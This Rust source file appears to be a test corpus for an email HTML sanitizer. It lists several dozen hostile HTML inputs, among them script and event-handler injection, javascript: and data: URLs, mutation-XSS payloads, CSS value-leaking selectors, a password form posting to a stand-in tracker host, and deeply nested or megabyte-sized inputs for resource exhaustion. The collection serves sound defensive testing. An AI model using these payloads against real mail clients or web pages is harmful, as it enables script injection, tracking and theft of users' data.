//! What hostile mail tries in HTML, each trick with the words that a reader must still see.
//!
//! Each address leads to one host that is not ours, so that a request that leaves can be told, and from which trick.
//! Sources: what a plain frame let through when we measured it; the mutation tricks that sanitizers fell to
//! (Heiderich and others, "mXSS Attacks", 2013; advisories of `DOMPurify` and ammonia); WHATWG HTML.

use std::fmt::Write as _;

/// How often a long thing is repeated.
const MILLION: usize = 1_000_000;

/// How deep a deep thing is.
const DEEP: usize = 100_000;

/// One trick.
pub(crate) struct Trick {
    /// What it is, in words.
    pub(crate) name: &'static str,
    /// The HTML of the mail.
    pub(crate) html: String,
}

/// All tricks.
pub(crate) fn all() -> Vec<Trick> {
    let short = SHORT.iter().map(|(name, html)| Trick {
        name,
        html: (*html).to_owned(),
    });
    short.chain(long()).collect()
}

/// The text that a reader must still see after each trick.
pub(crate) const SEEN: &str = "the words of the letter";

/// Tricks by sheer length and depth.
fn long() -> Vec<Trick> {
    let address = "http://tracker.example/a ".repeat(42_000);
    let million = |text: &str| text.repeat(MILLION);
    let mut attributes = String::new();
    for number in 0..DEEP {
        let _ = write!(attributes, "onx{number}=1 ");
    }
    let wide = [
        (
            "an attribute of a megabyte",
            format!("<p title=\"{address}\">{SEEN}</p>"),
        ),
        (
            "an address of a megabyte",
            format!(
                "<a href=\"http://tracker.example/{}\">{SEEN}</a>",
                million("a")
            ),
        ),
        (
            "a picture of a megabyte in the page",
            format!("{SEEN}<img src=\"data:image/png;base64,{}\">", million("A")),
        ),
        (
            "a tag name of a megabyte",
            format!("{SEEN}<{} src=http://tracker.example/x>", million("x")),
        ),
        (
            "a hundred thousand attributes",
            format!("<p {attributes}>{SEEN}"),
        ),
        (
            "text beside the cells of a table",
            format!("{SEEN}<table>{}", "<b>x</b>".repeat(DEEP)),
        ),
        (
            "hard spaces, a megabyte",
            format!("{SEEN}{}", million("\u{a0}")),
        ),
        (
            "control characters, a megabyte",
            format!("{SEEN}{}", million("\u{1}")),
        ),
        (
            "eleven megabytes of paragraphs",
            format!("{SEEN}{}", million("<p>word</p>")),
        ),
    ]
    .map(|(name, html)| Trick { name, html });
    wide.into_iter().chain(deep()).collect()
}

/// Elements in elements.
fn deep() -> impl Iterator<Item = Trick> {
    [
        ("div a hundred thousand deep", "<div>", ""),
        ("b a hundred thousand deep", "<b>", ""),
        ("lists a hundred thousand deep", "<ul><li>", ""),
        ("tables a hundred thousand deep", "<table><tr><td>", ""),
        ("svg a hundred thousand deep", "<svg><g>", ""),
        ("templates a hundred thousand deep", "<template>", ""),
        (
            "a hundred thousand links, badly nested",
            "<a href=http://tracker.example/x><i>",
            "</a>",
        ),
    ]
    .into_iter()
    .map(|(name, open, close)| Trick {
        name,
        html: format!("{SEEN}{}{}", open.repeat(DEEP), close.repeat(DEEP)),
    })
}

/// Tricks that are short.
const SHORT: &[(&str, &str)] = &[
    (
        "script",
        "<script>fetch('http://tracker.example/script')</script><script src=http://tracker.example/script.js></script>the words of the letter",
    ),
    (
        "script split over tags",
        "<scr<script>ipt>alert(1)</scr</script>ipt>the words of the letter",
    ),
    (
        "event attributes",
        "<body onload=alert(1)><p onclick='location=\"http://tracker.example/click\"' onmouseover=alert(1) ONPOINTERENTER=alert(1)>the words of the letter</p>",
    ),
    (
        "a slash for a space",
        "<img/src='http://tracker.example/slash'/onerror=alert(1)><svg/onload=alert(1)>the words of the letter",
    ),
    (
        "picture",
        "the words of the letter<img src='http://tracker.example/open.gif' width=1 height=1 alt='a pixel'>",
    ),
    (
        "picture with choices",
        "the words of the letter<img srcset='http://tracker.example/1x.png 1x, http://tracker.example/2x.png 2x' sizes=100vw><picture><source srcset=http://tracker.example/source.webp><img src=http://tracker.example/p.png></picture>",
    ),
    (
        "picture loaded late",
        "the words of the letter<img loading=lazy src=http://tracker.example/lazy.png><img lowsrc=http://tracker.example/low.png dynsrc=http://tracker.example/dyn.avi longdesc=http://tracker.example/desc>",
    ),
    (
        "background",
        "<body background=http://tracker.example/body.png><table background=http://tracker.example/table.png><tr><td background=http://tracker.example/cell.png>the words of the letter</table>",
    ),
    (
        "address in a style",
        "<p style='background:url(http://tracker.example/style.png);list-style-image:url(//tracker.example/list.png);cursor:url(http://tracker.example/c.cur),auto'>the words of the letter</p>",
    ),
    (
        "style escapes",
        "<p style='background:\\75\\72\\6c(http://tracker.example/escaped.png);behavior:url(http://tracker.example/x.htc);-moz-binding:url(http://tracker.example/x.xml#a);width:expression(alert(1))'>the words of the letter",
    ),
    (
        "style sheet",
        "<style>@import 'http://tracker.example/import.css';@font-face{font-family:a;src:url(http://tracker.example/a.woff2)}p{font-family:a;background:image-set('http://tracker.example/set.png' 1x)}</style><p>the words of the letter",
    ),
    (
        "style reads values",
        "<style>input[value^=a]{background:url(http://tracker.example/leak-a)}</style><input value=abc>the words of the letter",
    ),
    (
        "style never closed",
        "<p>the words of the letter</p><style>@import 'http://tracker.example/open.css';",
    ),
    (
        "linked style sheet",
        "<link rel=stylesheet href=http://tracker.example/link.css><link rel=icon href=http://tracker.example/icon.png>the words of the letter",
    ),
    (
        "early connections",
        "<link rel=prefetch href=http://tracker.example/prefetch><link rel=dns-prefetch href=//tracker.example><link rel=preconnect href=http://tracker.example><link rel=preload as=image href=http://tracker.example/preload><link rel=prerender href=http://tracker.example/prerender><link rel=modulepreload href=http://tracker.example/module.js><link rel=manifest href=http://tracker.example/manifest>the words of the letter",
    ),
    (
        "refresh",
        "<meta http-equiv=refresh content='0;url=http://tracker.example/refresh'>the words of the letter",
    ),
    (
        "policy of the mail",
        "<meta http-equiv=Content-Security-Policy content=\"default-src *; report-uri http://tracker.example/report\"><meta http-equiv=Set-Cookie content=a=b>the words of the letter",
    ),
    (
        "base",
        "<base href=http://tracker.example/ target=_top><a href=relative>the words of the letter</a><img src=relative.png>",
    ),
    (
        "frames",
        "the words of the letter<iframe src=http://tracker.example/frame></iframe><iframe srcdoc='<script>alert(1)</script><img src=http://tracker.example/srcdoc>'></iframe>",
    ),
    (
        "frameset",
        "the words of the letter<frameset><frame src=http://tracker.example/frameset></frameset>",
    ),
    (
        "objects",
        "the words of the letter<object data=http://tracker.example/object><param name=movie value=http://tracker.example/movie></object><embed src=http://tracker.example/embed><applet code=a archive=http://tracker.example/applet></applet>",
    ),
    (
        "sound and film",
        "the words of the letter<video src=http://tracker.example/video poster=http://tracker.example/poster autoplay><track src=http://tracker.example/track default></video><audio src=http://tracker.example/audio autoplay></audio><bgsound src=http://tracker.example/bgsound>",
    ),
    (
        "form",
        "<form action=http://tracker.example/form method=post>the words of the letter<input name=password type=password autofocus onfocus=alert(1)><input type=image src=http://tracker.example/image><button formaction=http://tracker.example/button>Send</button></form>",
    ),
    (
        "field from outside a form",
        "<form id=f action=http://tracker.example/far></form>the words of the letter<input form=f type=submit value=Go><isindex action=http://tracker.example/isindex>",
    ),
    (
        "link",
        "<a href='http://tracker.example/link?id=7'>the words of the letter</a>",
    ),
    (
        "link that pings",
        "<a href=http://tracker.example/pinging ping=http://tracker.example/ping>the words of the letter</a>",
    ),
    (
        "link that names a window",
        "<a href=http://tracker.example/window target=_top>the words of the letter</a><a href=http://tracker.example/name target='name with data'>x</a>",
    ),
    (
        "link that says another address",
        "<a href=http://tracker.example/other>https://bank.example/</a> the words of the letter",
    ),
    (
        "link that turns around",
        "<a href='http://tracker.example/\u{202e}gpj.exe'>the words of the letter</a>",
    ),
    (
        "link that is a download",
        "<a href=http://tracker.example/file download=a.exe>the words of the letter</a>",
    ),
    (
        "places in a picture",
        "the words of the letter<map name=m><area shape=default href=http://tracker.example/area></map><img usemap=#m ismap src=http://tracker.example/map.png>",
    ),
    (
        "javascript address",
        "<a href='javascript:alert(1)'>the words of the letter</a><a href='java&#9;script:alert(1)'>a</a><a href=' &#14; javascript:alert(1)'>b</a><a href='JaVaScRiPt&colon;alert(1)'>c</a><a href='vbscript:x'>d</a>",
    ),
    (
        "data address",
        "<a href='data:text/html,<script>alert(1)</script>'>the words of the letter</a><img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>'><iframe src='data:text/html,<img src=http://tracker.example/data>'></iframe>",
    ),
    (
        "picture of the mail itself",
        "the words of the letter<img src=cid:logo@example.org alt='our \"logo\" <b>'>",
    ),
    (
        "address without a scheme",
        "<img src=//tracker.example/relative><img src=\\\\tracker.example\\share\\a.png><img src=file:///etc/passwd><a href=ms-word:ofe|u|http://tracker.example/doc>the words of the letter</a>",
    ),
    (
        "svg",
        "<svg onload=alert(1)><image href=http://tracker.example/svg.png xlink:href=http://tracker.example/xlink.png /><use href=http://tracker.example/use.svg#a /><a xlink:href=http://tracker.example/svg-a><text>the words of the letter</text></a><script href=http://tracker.example/svg.js></script><animate attributeName=href values=javascript:alert(1) /><set attributeName=onmouseover to=alert(1) /><feImage href=http://tracker.example/fe.png /></svg>",
    ),
    (
        "svg never closed",
        "<svg><style>the words of the letter <img src=http://tracker.example/svgstyle onerror=alert(1)></style><p>the words of the letter",
    ),
    (
        "mathematics",
        "<math href=javascript:alert(1)><mtext>the words of the letter</mtext><maction actiontype=statusline xlink:href=http://tracker.example/math>x</maction></math>",
    ),
    (
        "mutation by svg and style",
        "<svg></p><style><a id=\"</style><img src=http://tracker.example/mx1 onerror=alert(1)>\"></a></style></svg>the words of the letter",
    ),
    (
        "mutation by mathematics",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=http://tracker.example/mx2 onerror=alert(1)&gt;\">the words of the letter</table>",
    ),
    (
        "mutation by forms in mathematics",
        "<form><math><mtext></form><form><mglyph><style></math><img src=http://tracker.example/mx3 onerror=alert(1)></style></mglyph></form>the words of the letter",
    ),
    (
        "mutation by noscript",
        "<noscript><p title=\"</noscript><img src=http://tracker.example/mx4 onerror=alert(1)>\">the words of the letter</p></noscript>",
    ),
    (
        "mutation by title and textarea",
        "<title><img title=\"</title><img src=http://tracker.example/mx5 onerror=alert(1)>\"></title><textarea><img title=\"</textarea><img src=http://tracker.example/mx6 onerror=alert(1)>\"></textarea>the words of the letter",
    ),
    (
        "mutation by template and xmp",
        "<template><img src=http://tracker.example/mx7 onerror=alert(1)></template><xmp><p title=\"</xmp><img src=http://tracker.example/mx8 onerror=alert(1)>\"></xmp><noembed><img title=\"</noembed><img src=http://tracker.example/mx9 onerror=alert(1)>\"></noembed>the words of the letter",
    ),
    (
        "mutation by select and annotation",
        "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=http://tracker.example/mx10 onerror=alert(1)>\">x</a><math><annotation-xml encoding=text/html><style><img src=http://tracker.example/mx11 onerror=alert(1)></style></annotation-xml></math>the words of the letter",
    ),
    (
        "mutation by marked sections",
        "<svg><![CDATA[><img src=http://tracker.example/mx12 onerror=alert(1)>]]></svg><![CDATA[<img src=http://tracker.example/mx13>]]>the words of the letter",
    ),
    (
        "mutation by back quotes",
        "<img src=``onerror=alert(1)><div id=`x`y='`<img src=http://tracker.example/mx14 onerror=alert(1)>`'>the words of the letter</div>",
    ),
    (
        "declared shadow tree",
        "<div><template shadowrootmode=open><img src=http://tracker.example/shadow><slot></slot></template>the words of the letter</div>",
    ),
    (
        "conditional comments",
        "<!--[if mso]><img src=http://tracker.example/mso><![endif]--><!--[if !mso]><!--><p>the words of the letter</p><!--<![endif]--><![if gte IE 5]><script>alert(1)</script><![endif]>",
    ),
    (
        "comments that end early",
        "<!--><img src=http://tracker.example/c1><!---><img src=http://tracker.example/c2><!-- --!><img src=http://tracker.example/c3><!-- a <!-- b --> <p>the words of the letter</p> -->",
    ),
    (
        "comment never closed",
        "the words of the letter<!-- <img src=http://tracker.example/open-comment>",
    ),
    (
        "processing instruction",
        "<?xml version=1.0?><?php echo '<img src=http://tracker.example/php>' ?><?xml-stylesheet href=http://tracker.example/pi.css ?>the words of the letter",
    ),
    (
        "zero bytes",
        "<scr\u{0}ipt>alert(1)</scr\u{0}ipt><img s\u{0}rc=http://tracker.example/nul \u{0}onerror=alert(1)><a hr\u{0}ef=http://tracker.example/nul2>the words of the letter</a>",
    ),
    (
        "quotes never closed",
        "the words of the letter<img alt=\"<script>alert(1)</script><img src='http://tracker.example/quote",
    ),
    (
        "tag never closed",
        "the words of the letter<img src=http://tracker.example/unclosed onerror=alert(1) ",
    ),
    (
        "end tags with attributes",
        "<p>the words of the letter</p onclick=alert(1) style=background:url(http://tracker.example/end)></br onclick=alert(1)></script><img src=http://tracker.example/end2>",
    ),
    (
        "seven-bit disguise",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4- +ADw-img src+AD0-http://tracker.example/utf7+AD4- the words of the letter",
    ),
    (
        "wide letters",
        "＜script＞alert(1)＜/script＞<ſcript src=http://tracker.example/long-s></ſcript><ıframe src=http://tracker.example/dotless></ıframe>the words of the letter",
    ),
    (
        "references twice",
        "&lt;img src=http://tracker.example/once onerror=alert(1)&gt; &amp;lt;script&amp;gt; &#60;script&#62; &#x3c;script&#x3e; the words of the letter",
    ),
    (
        "turned text",
        "the words of the letter \u{202e}gnp.exe\u{202c} \u{2066}a\u{2069} \u{200f}b &#x202e;drawkcab <bdo dir=rtl>sdrawkcab</bdo>",
    ),
    (
        "control characters",
        "the words of the letter \u{1b}[31m \u{7} \u{8} \u{85} \u{feff} &#27; &#0; &#13; &#128; \u{e0041}",
    ),
    (
        "languages and directions that are none",
        "<p lang='en\" onclick=\"alert(1)' dir='rtl\" onclick=\"x'>the words of the letter</p><p lang=ar dir=RTL>\u{634}</p>",
    ),
    (
        "spans that are none",
        "<table><tr><td colspan='2\" onclick=\"alert(1)' rowspan=-1>the words of the letter</td><td colspan=65000 rowspan=99999999999999>x<td colspan='3'>y</table>",
    ),
    (
        "editable and draggable",
        "<p contenteditable draggable=true tabindex=1 accesskey=x autofocus popover>the words of the letter</p><dialog open>a</dialog><details ontoggle=alert(1) open>b</details><marquee onstart=alert(1)>c</marquee>",
    ),
    (
        "names that shadow the page's own",
        "<a id=body name=cookie>the words of the letter</a><form name=document><input name=getElementById></form><img name=forms>",
    ),
    (
        "headings and lists badly nested",
        "<h1><b>the words of the letter<h2>a</b><ul><li>b<ul>c<li>d</ul><dl><dd>e<dt>f<p>g<table><tr><td>h<p>i</table>j<hr>k<pre>\n\nl</pre>",
    ),
    (
        "a whole page in a table",
        "<table><caption>a<tr>b<td>c<html><body onload=alert(1)><head><title>x</title><tbody>d<td><table>the words of the letter</table></table>",
    ),
    (
        "tables without tables",
        "</td></tr></table><td>the words of the letter<tr><caption><col><colgroup><tbody><th>x</th>",
    ),
    (
        "plain text to the end",
        "the words of the letter<plaintext><img src=http://tracker.example/plain><script>alert(1)</script>",
    ),
    (
        "import by xml",
        "<xml id=x src=http://tracker.example/xml></xml><?import namespace=t implementation=http://tracker.example/htc><v:rect fill='http://tracker.example/vml'><v:fill src=http://tracker.example/vmlfill /></v:rect><o:p>the words of the letter</o:p>",
    ),
    (
        "portals and fenced frames",
        "<portal src=http://tracker.example/portal></portal><fencedframe src=http://tracker.example/fenced></fencedframe><webview src=http://tracker.example/webview></webview><script type=speculationrules>{\"prefetch\":[{\"urls\":[\"http://tracker.example/spec\"]}]}</script>the words of the letter",
    ),
];
